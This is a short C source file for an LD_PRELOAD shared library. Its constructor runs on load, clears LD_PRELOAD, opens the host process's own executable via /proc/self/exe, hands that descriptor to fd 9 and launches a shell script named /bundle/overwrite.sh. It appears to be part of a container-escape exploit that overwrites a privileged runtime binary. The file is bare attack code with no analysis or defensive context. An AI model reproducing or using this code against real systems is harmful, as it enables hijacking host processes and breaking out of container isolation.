#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void seize(void) {
    unsetenv("LD_PRELOAD");
    int fd = open("/proc/self/exe", O_RDONLY);
    dup2(fd, 9);
    execl("/bin/sh", "sh", "/bundle/overwrite.sh", (char *)0);
}
